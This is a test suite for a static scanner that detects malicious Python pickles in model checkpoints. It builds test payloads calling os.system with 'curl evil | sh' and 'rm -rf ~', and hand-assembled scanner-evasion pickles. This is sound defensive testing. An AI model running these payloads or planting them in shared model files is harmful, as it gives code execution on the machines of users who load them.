"""Pickle rules: malicious pickles (built here, never loaded) must be flagged; benign torch/numpy
pickles must not. The scanner never unpickles: a payload that would create a file proves it."""

from __future__ import annotations

import io
import os
import pickle as P
import zipfile
from pathlib import Path

import numpy as np
import pytest

from sdsecure.gate.blob import Blob
from sdsecure.gate.report import Severity
from sdsecure.gate.rules import _FILE_RULES, RULES, ScanContext
from sdsecure.gate.rules import pickles
from sdsecure.gate.rules.pickles import classify, scan_file

DATA = Path(__file__).parent / "data"


# --- helpers: a tiny pickle assembler ---------------------------------------------------------------

def glob(mod: str, name: str) -> bytes:
    return P.GLOBAL + f"{mod}\n{name}\n".encode()


def ustr(s: str) -> bytes:
    b = s.encode()
    return P.SHORT_BINUNICODE + bytes([len(b)]) + b


PROTO4 = P.PROTO + b"\x04"


def rules_of(findings) -> set[str]:
    return {f.rule for f in findings}


def worst(findings) -> Severity | None:
    return max((f.severity for f in findings), default=None)


class System:
    """Pickles as os.system("<cmd>") — the classic payload."""

    def __init__(self, cmd: str):
        self.cmd = cmd

    def __reduce__(self):
        return (os.system, (self.cmd,))


class Eval:
    def __reduce__(self):
        return (eval, ("__import__('os').system('id')",))


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: dict[str, bytes] | None = None) -> bytes:
    """A zip laid out like torch.save's format: <prefix>/data.pkl, data/0, version, byteorder."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", "little")
        z.writestr(f"{prefix}/data/0", np.arange(4, dtype=np.float32).tobytes())
        z.writestr(f"{prefix}/version", "3\n")
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return buf.getvalue()


def torch_like_state_dict() -> bytes:
    """The pickle torch.save writes for {"w": tensor}: OrderedDict + _rebuild_tensor_v2 + storage."""
    return (P.PROTO + b"\x02" + glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE
            + P.MARK + ustr("w") + glob("torch._utils", "_rebuild_tensor_v2")
            + P.MARK + P.MARK + ustr("storage") + glob("torch", "FloatStorage") + ustr("0") + ustr("cpu")
            + P.BININT1 + b"\x04" + P.TUPLE + P.BINPERSID
            + P.BININT1 + b"\x00" + P.BININT1 + b"\x04" + P.TUPLE1 + P.BININT1 + b"\x01" + P.TUPLE1
            + P.NEWFALSE + glob("collections", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE + P.TUPLE
            + P.REDUCE + P.SETITEMS + P.STOP)


# --- benign ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["torch_state_dict_zip.pt", "torch_state_dict_legacy.pt",
                                  "torch_checkpoint_zip.pt"])
def test_real_torch_files_are_allowed(name):
    """Files written by torch.save (zip and legacy formats; see tests/data/README.md)."""
    found = scan_file(name, (DATA / name).read_bytes())
    assert rules_of(found) == {"PICKLE-FILE"}
    assert worst(found) == Severity.INFO
    assert "torch._utils._rebuild_tensor_v2" in found[0].evidence["globals"]


def test_legacy_torch_file_scans_all_streams():
    found = scan_file("m.bin", (DATA / "torch_state_dict_legacy.pt").read_bytes())
    assert found[0].evidence["streams"] == 5      # magic, protocol, sys_info, object, storage keys


def test_hand_built_torch_zip_is_allowed():
    found = scan_file("pytorch_model.bin", torch_zip(torch_like_state_dict()))
    assert rules_of(found) == {"PICKLE-FILE"}
    assert found[0].where.startswith("archive/data.pkl")


@pytest.mark.parametrize("protocol", range(0, 6))
def test_numpy_pickles_all_protocols_are_allowed(protocol):
    obj = {"a": np.arange(6, dtype=np.float32).reshape(2, 3), "s": np.float64(1.5), "d": np.dtype("int64"),
           "set": {1, 2}, "b": b"xy", "c": 1j}
    found = scan_file("arrays.pkl", P.dumps(obj, protocol=protocol))
    assert rules_of(found) == {"PICKLE-FILE"}, [f.message for f in found]


@pytest.mark.parametrize("data", [
    np.random.default_rng(0).standard_normal(4096).astype(np.float32).tobytes(),   # raw weights
    b'{"_class_name": "PNDMScheduler"}',
    b"#version: 0.2\ni n\nt h\n",
    b"Copyright (c) 2024 Example\n\nPermission is hereby granted...\n",
    b"\x08\x07\x12\x07pytorch",                                                   # ONNX protobuf head
    b"",
])
def test_non_pickle_files_have_no_findings(data):
    assert scan_file("weights.bin", data) == []


def test_numeric_npy_has_no_findings():
    buf = io.BytesIO()
    np.save(buf, np.arange(10))
    assert scan_file("x.npy", buf.getvalue()) == []


# --- malicious: dangerous globals ----------------------------------------------------------------------

@pytest.mark.parametrize("protocol", range(0, 6))
def test_os_system_is_critical_with_the_global_and_command_named(protocol):
    found = scan_file("model.pkl", P.dumps({"w": [1, 2], "x": System("curl evil | sh")}, protocol=protocol))
    crit = [f for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"]
    assert len(crit) == 1 and crit[0].severity == Severity.CRITICAL
    ev = crit[0].evidence
    assert ev["global"] in ("posix.system", "os.system")
    assert ev["called"] is True and ev["call_args"] == ["curl evil | sh"]
    assert ev["global"] in crit[0].message and "byte" in crit[0].where


def test_eval_is_critical():
    found = scan_file("x.pkl", P.dumps(Eval(), protocol=2))
    assert [f.evidence["global"] for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"] == ["builtins.eval"]


@pytest.mark.parametrize("mod,name", [("subprocess", "Popen"), ("builtins", "exec"), ("__builtin__", "eval"),
                                      ("runpy", "_run_code"), ("torch.serialization", "load"),
                                      ("numpy", "load"), ("torch._utils", "_rebuild_tensor.__globals__"),
                                      ("importlib", "import_module"), ("pickle", "loads"),
                                      ("webbrowser", "open"), ("operator", "attrgetter")])
def test_known_dangerous_globals_are_critical(mod, name):
    data = PROTO4 + glob(mod, name) + ustr("arg") + P.TUPLE1 + P.REDUCE + P.STOP
    found = scan_file("x.pkl", data)
    assert worst(found) == Severity.CRITICAL, found
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(found)


def test_unknown_global_blocks_and_is_named():
    data = PROTO4 + glob("mypkg.models", "Net") + P.EMPTY_TUPLE + P.REDUCE + P.STOP
    found = scan_file("training_args.bin", data)
    assert [(f.rule, f.severity, f.evidence["global"]) for f in found] == [
        ("PICKLE-UNKNOWN-GLOBAL", Severity.CRITICAL, "mypkg.models.Net")]


@pytest.mark.parametrize("mod,name,expected", [
    ("torch._utils", "_rebuild_tensor_v2", None), ("collections", "OrderedDict", None),
    ("numpy._core.multiarray", "_reconstruct", None), ("builtins", "set", None),
    ("posix", "system", Severity.CRITICAL), ("builtins", "getattr", Severity.CRITICAL),
    ("builtins", "list", Severity.HIGH), ("numpy", "prod.a", Severity.HIGH),
    ("pytorch_lightning.callbacks", "ModelCheckpoint", Severity.HIGH),
])
def test_classify(mod, name, expected):
    assert classify(mod, name) == expected


# --- malicious: evasions ----------------------------------------------------------------------------

def test_stack_global_operands_through_memo_are_resolved():
    """picklescan #14/#22: strings parked in the memo out of order, mixing PUT and MEMOIZE."""
    data = (PROTO4 + ustr("os") + P.BINPUT + b"\x07" + P.POP
            + ustr("torch._utils") + P.MEMOIZE + P.POP                # memo[1] (len(memo) was 1)
            + ustr("system") + P.BINPUT + b"\x00" + P.POP             # memo[0] = "system"
            + ustr("_rebuild_tensor_v2") + P.MEMOIZE + P.POP          # memo[2]
            + P.BINGET + b"\x07" + P.BINGET + b"\x00" + P.STACK_GLOBAL
            + ustr("id") + P.TUPLE1 + P.REDUCE + P.STOP)
    found = scan_file("x.bin", data)
    crit = [f for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"]
    assert [f.evidence["global"] for f in crit] == ["os.system"]
    assert crit[0].evidence["opcode"] == "STACK_GLOBAL" and crit[0].evidence["called"]


def test_missing_memo_key_is_malformed_not_a_crash():
    data = PROTO4 + P.BINGET + b"\x05" + P.BINGET + b"\x06" + P.STACK_GLOBAL + P.STOP
    found = scan_file("x.pkl", data)
    assert rules_of(found) == {"PICKLE-MALFORMED"}
    assert "memo key 5" in found[0].message


def test_stack_global_with_computed_name_is_critical():
    """The module name comes out of a call: no static scanner can know what is imported."""
    data = (PROTO4 + glob("_codecs", "encode") + ustr("os") + ustr("ascii") + P.TUPLE2 + P.REDUCE
            + ustr("system") + P.STACK_GLOBAL + P.STOP)
    found = scan_file("x.pkl", data)
    assert "PICKLE-UNRESOLVED-GLOBAL" in rules_of(found)
    assert worst(found) == Severity.CRITICAL


def test_extension_registry_import_is_flagged():
    data = PROTO4 + P.EXT1 + b"\x05" + P.EMPTY_TUPLE + P.REDUCE + P.STOP
    found = scan_file("x.pkl", data)
    assert [(f.rule, f.severity) for f in found] == [("PICKLE-UNRESOLVED-GLOBAL", Severity.HIGH)]


def test_build_on_a_global_is_critical():
    """modelscan #85: BUILD sets numpy.prod.a = "os" so a later GLOBAL looks harmless."""
    data = (P.PROTO + b"\x05" + glob("numpy", "prod") + P.NONE + P.MARK + ustr("a") + ustr("os") + P.DICT
            + P.TUPLE2 + P.BUILD + P.POP + P.STOP)
    found = scan_file("x.pkl", data)
    mut = [f for f in found if f.rule == "PICKLE-GLOBAL-MUTATION"]
    assert len(mut) == 1 and mut[0].severity == Severity.CRITICAL
    assert mut[0].evidence["global"] == "numpy.prod"


def test_protocol0_inst_opcode_is_seen():
    data = b"(S'id'\nios\nsystem\n."
    found = scan_file("x.pkl", data)
    crit = [f for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"]
    assert crit and crit[0].evidence["global"] == "os.system" and crit[0].evidence["called"]


def test_global_line_decoded_like_the_unpickler_not_like_pickletools():
    """_pickle reads GLOBAL lines as raw UTF-8; pickletools would decode backslash escapes."""
    data = b"c" + "ｏs\nsystem\n".encode() + b"(S'id'\ntR."
    found = scan_file("x.pkl", data)
    assert any(f.evidence.get("global") == "ｏs.system" for f in found)


# --- truncated / garbled --------------------------------------------------------------------------

def test_truncated_pickle_reports_what_ran_before_the_break():
    data = P.dumps(System("rm -rf ~"), protocol=4)[:-3]
    found = scan_file("checkpoint", data)        # no extension: judged by content (protocol header)
    assert {"PICKLE-DANGEROUS-GLOBAL", "PICKLE-MALFORMED"} <= rules_of(found)
    assert worst(found) == Severity.CRITICAL


@pytest.mark.parametrize("data", [
    PROTO4 + b"\xff\xfe garbage",
    P.PROTO + b"\x09" + P.NONE + P.STOP,              # protocol 9 does not exist
    PROTO4 + P.BINUNICODE + (10**6).to_bytes(4, "little") + b"short",
    PROTO4 + P.POP + P.STOP,                           # stack underflow
])
def test_garbled_pickles_are_findings_not_crashes(data):
    found = scan_file("model.pkl", data)
    assert rules_of(found) == {"PICKLE-MALFORMED"}
    assert found[0].severity == Severity.HIGH


# --- any name, judged by content ---------------------------------------------------------------------

@pytest.mark.parametrize("name", ["unet/model.onnx", "config.txt", "weights.dat", "noext", "x.safetensors"])
def test_pickles_are_found_whatever_their_name(name):
    found = scan_file(name, P.dumps(System("id"), protocol=2))
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(found)


def test_protocol0_pickle_without_pickle_name_is_found():
    found = scan_file("notes.txt", P.dumps(System("id"), protocol=0))
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(found)


# --- archives ----------------------------------------------------------------------------------------

def test_malicious_torch_zip_names_the_member():
    found = scan_file("pytorch_model.bin", torch_zip(P.dumps({"w": System("id")}, protocol=2)))
    crit = [f for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"]
    assert crit and crit[0].evidence["member"] == "archive/data.pkl"
    assert crit[0].where.startswith("archive/data.pkl @ byte")


def test_pickle_hidden_in_an_unlabelled_zip_member_is_found():
    z = torch_zip(torch_like_state_dict(), extra={"archive/extra/blob": P.dumps(System("id"), protocol=4)})
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(scan_file("m.pt", z))


def _zip_of(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return buf.getvalue()


def test_nested_zips_are_opened():
    inner = torch_zip(P.dumps(System("id"), protocol=2))
    data = _zip_of("outer/inner.zip", _zip_of("mid/model.pt", inner))
    found = scan_file("bundle.zip", data)
    crit = [f for f in found if f.rule == "PICKLE-DANGEROUS-GLOBAL"]
    assert crit and crit[0].evidence["member"] == "outer/inner.zip/mid/model.pt/archive/data.pkl"


def test_zip_nesting_beyond_the_cap_is_reported():
    data = P.dumps(System("id"), protocol=2)
    for i in range(pickles.MAX_ZIP_DEPTH + 2):
        data = _zip_of(f"l{i}.zip", data)
    assert "PICKLE-MALFORMED" in rules_of(scan_file("deep.zip", data))


def test_unreadable_zip_member_is_reported():
    z = bytearray(torch_zip(torch_like_state_dict()))
    pos = z.find(b"OrderedDict")            # corrupt data.pkl's bytes: the CRC check fails
    z[pos] ^= 0xFF
    found = scan_file("m.pt", bytes(z))
    assert any(f.rule == "PICKLE-MALFORMED" and "data.pkl" in f.message for f in found)


def test_zip_that_python_cannot_parse_is_reported():
    z = torch_zip(torch_like_state_dict())
    broken = z[: len(z) // 2]               # central directory gone
    found = scan_file("m.pt", broken)
    assert rules_of(found) == {"PICKLE-MALFORMED"}


def test_object_npy_carries_a_pickle():
    buf = io.BytesIO()
    np.save(buf, np.array([System("id")], dtype=object), allow_pickle=True)
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(scan_file("x.npy", buf.getvalue()))


def test_npz_members_are_scanned():
    buf = io.BytesIO()
    np.savez(buf, ok=np.arange(3), bad=np.array([System("id")], dtype=object))
    assert "PICKLE-DANGEROUS-GLOBAL" in rules_of(scan_file("x.npz", buf.getvalue()))


def test_torchscript_archive_is_medium():
    z = torch_zip(torch_like_state_dict(), extra={"archive/code/__torch__/model.py": "def forward(x): ...",
                                                   "archive/constants.pkl": P.dumps((), protocol=2)})
    found = scan_file("traced.pt", z)
    ts = [f for f in found if f.rule == "PICKLE-TORCHSCRIPT"]
    assert ts and ts[0].severity == Severity.MEDIUM
    assert ts[0].evidence["code_files"] == ["archive/code/__torch__/model.py"]


# --- never executes; registered ----------------------------------------------------------------------

def test_scanning_never_unpickles(tmp_path, monkeypatch):
    marker = tmp_path / "pwned"
    payload = P.dumps(System(f"touch {marker}"), protocol=4)

    def boom(*a, **k):
        raise AssertionError("the scanner must not unpickle")

    monkeypatch.setattr(P, "loads", boom)
    monkeypatch.setattr(P, "load", boom)
    monkeypatch.setattr(P, "Unpickler", boom)
    for name, data in (("a.pkl", payload), ("b.pt", torch_zip(payload))):
        assert scan_file(name, data)
    assert not marker.exists()


def test_rule_is_registered_for_every_file_and_uses_the_blob():
    assert any(fn is pickles.pickle_rule and pats == ("*",) for pats, fn in _FILE_RULES)
    blob = Blob.from_bytes(P.dumps(System("id"), protocol=2))
    ctx = ScanContext("x", {"weird/name.onnx": blob}, False)
    found = pickles.pickle_rule(ctx, "weird/name.onnx", blob)
    assert found[0].file == "weird/name.onnx"


def test_rule_ids_are_declared_with_help_text():
    for rid in ("PICKLE-DANGEROUS-GLOBAL", "PICKLE-UNKNOWN-GLOBAL", "PICKLE-UNRESOLVED-GLOBAL",
                "PICKLE-GLOBAL-MUTATION", "PICKLE-MALFORMED", "PICKLE-TORCHSCRIPT", "PICKLE-FILE"):
        info = RULES[rid]
        assert len(info.why) > 80 and info.fix and info.title


# --- resource caps: bombs become findings, not hours of CPU or GBs of memory ---------------------------

@pytest.mark.parametrize("cap,value,body", [
    ("MAX_DEPTH", 100, b"(" * 200),                     # MARK nesting
    ("MAX_ITEMS", 1000, b"N\x94" * 2000),               # memo entries
    ("MAX_ITEMS", 1000, b"N" * 2000),                   # stack items
    ("MAX_OPS", 5000, b"N0" * 5000),                    # opcode count
])
def test_bombs_hit_a_cap_and_are_reported(monkeypatch, cap, value, body):
    monkeypatch.setattr(pickles, cap, value)
    found = scan_file("bomb.pkl", PROTO4 + body + P.STOP)
    assert rules_of(found) == {"PICKLE-MALFORMED"}
    assert "not analysed further" in found[0].message
